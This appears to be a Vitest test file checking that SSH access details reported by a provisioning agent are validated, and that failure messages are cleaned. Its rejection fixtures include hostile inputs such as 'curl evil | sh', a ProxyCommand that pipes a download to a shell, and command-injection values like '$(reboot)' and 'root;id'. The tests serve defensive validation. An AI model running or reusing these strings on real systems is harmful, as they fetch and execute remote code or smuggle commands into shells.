import { describe, expect, it } from 'vitest';
import { ERRORS } from '@dc/shared/errors';
import { sshKeyOf } from '../testing/rental.ts';
import { readAccess, readFailure } from './reported-facts.ts';

const good = { host: '203.0.113.7', port: 22, user: 'root', host_key: sshKeyOf('instance') };
const read = (change: Record<string, unknown>) => readAccess({ access: { ...good, ...change } });
const LONG = 'a'.repeat(65_536);

describe('the access that an agent reports', () => {
  it('is taken with the command to paste and the fingerprint, both worked out here', () => {
    const access = readAccess({
      access: { ...good, ssh_command: 'curl evil | sh', host_key_fingerprint: 'SHA256:x' },
    });
    expect(access).toEqual({
      host: '203.0.113.7',
      port: 22,
      user: 'root',
      ssh_command: 'ssh -p 22 root@203.0.113.7',
      host_key_fingerprint: expect.stringMatching(/^SHA256:[A-Za-z0-9+/]{43}$/) as string,
      host_key: good.host_key,
      web_url: null,
    });
  });

  it.each(['203.0.113.7', '2a01:4f8::1', 'localhost', 'vm-1.example.net', 'xn--bcher-kva.example', 'a'])(
    'takes the host %s',
    (host) => {
      expect(read({ host })?.ssh_command).toBe(`ssh -p 22 root@${host}`);
    },
  );

  it.each([
    '-oProxyCommand=curl$IFS/evil|sh',
    '-l',
    'host;reboot',
    'host reboot',
    'host\nreboot',
    'host\r',
    'host\0',
    '$(reboot)',
    '`reboot`',
    'a&b',
    'a|b',
    "a'b",
    'a"b',
    'a\\b',
    'a>b',
    'a@b',
    'a/b',
    'a:b',
    '[::1]',
    'fe80::1%eth0',
    'EXAMPLE.com',
    'bücher.example',
    '\u202ehost',
    'a..b',
    '.a',
    'a.',
    'a-.b',
    '-a.b',
    'a_b',
    '127.1',
    '2130706433',
    '012.0.0.1',
    '1.2.3.4.5',
    '',
    'a'.repeat(64),
    `${'a.'.repeat(127)}aa`,
    LONG,
    7,
    null,
    ['a'],
    { toString: () => 'a' },
  ])('refuses the host %j', (host) => {
    expect(read({ host })).toBeNull();
  });

  it.each([0, -1, 65_536, 22.5, NaN, Infinity, '22', '22 -oProxyCommand=x', null, [22], 2 ** 53])(
    'refuses the port %j',
    (port) => {
      expect(read({ port })).toBeNull();
    },
  );

  it.each(['root', 'debian', '_apt', 'user-1', 'a'.repeat(32)])('takes the user %s', (user) => {
    expect(read({ user })?.user).toBe(user);
  });

  it.each([
    '-oProxyCommand=sh',
    'Root',
    'ro ot',
    'root\n',
    'root;id',
    'root@evil',
    '$(id)',
    'rööt',
    '1root',
    '',
    'a'.repeat(33),
    LONG,
    0,
    null,
  ])('refuses the user %j', (user) => {
    expect(read({ user })).toBeNull();
  });

  it.each([
    ['nothing', undefined],
    ['no text', 7],
    ['an empty text', ''],
    ['words', 'not a key'],
    ['an option in front', `command="sh" ${good.host_key}`],
    ['two lines', `${good.host_key}\n${good.host_key}`],
    ['an RSA type around Ed25519', good.host_key.replace('ssh-ed25519', 'ssh-rsa')],
    [
      'a point of small order',
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    ],
    ['64 kB', `${good.host_key} ${LONG}`],
  ])('refuses the host key %s', (_, host_key) => {
    expect(read({ host_key })).toBeNull();
  });

  it('drops the comment of a host key', () => {
    expect(read({ host_key: `${good.host_key} $(reboot)` })?.host_key).toBe(good.host_key);
  });

  it.each([[{}], [{ access: null }], [{ access: 'x' }], [{ access: 5 }], [{ access: [] }], [{ access: {} }]])(
    'refuses %j',
    (data) => {
      expect(readAccess(data)).toBeNull();
    },
  );
});

describe('the failure that an agent reports', () => {
  it('keeps a code of ours and its words', () => {
    expect(
      readFailure({ code: 'PROVISIONER_EXHAUSTED', detail: 'The provider’s pool “ssd” is full.' }),
    ).toEqual({
      code: 'PROVISIONER_EXHAUSTED',
      detail: 'The provider’s pool “ssd” is full.',
      remedy: expect.stringContaining('all of your money back') as string,
    });
  });

  it.each([
    'MADE_UP',
    'toString',
    'constructor',
    '__proto__',
    'hasOwnProperty',
    '',
    7,
    null,
    ['X'],
    undefined,
  ])('turns the code %j into one that everybody knows', (code) => {
    expect(readFailure({ code })).toMatchObject({
      code: 'PROVISIONER_FAILED',
      detail: ERRORS.PROVISIONER_FAILED.title,
    });
  });

  it.each([
    ['a terminal escape', 'red\u001b[31m alert\u0007', 'red [31m alert'],
    ['line breaks', 'one\r\ntwo\u2028three', 'one two three'],
    ['a turned direction', 'abc\u202egpj.exe', 'abc gpj.exe'],
    ['a zero width', 'a\u200bb', 'a b'],
    ['a lone surrogate', 'a\ud800b', 'a b'],
    ['nothing but that', '\u0000\u0000', ERRORS.PROVISIONER_FAILED.title],
  ])('cleans %s', (_, detail, expected) => {
    expect(readFailure({ detail }).detail).toBe(expected);
  });

  it('cuts a long one, and not through a character', () => {
    expect(readFailure({ detail: LONG }).detail).toBe('a'.repeat(300));
    expect(readFailure({ detail: '😀'.repeat(400) }).detail).toBe('😀'.repeat(300));
  });

  it.each([7, null, {}, ['x']])('says the title for the detail %j', (detail) => {
    expect(readFailure({ detail }).detail).toBe(ERRORS.PROVISIONER_FAILED.title);
  });
});
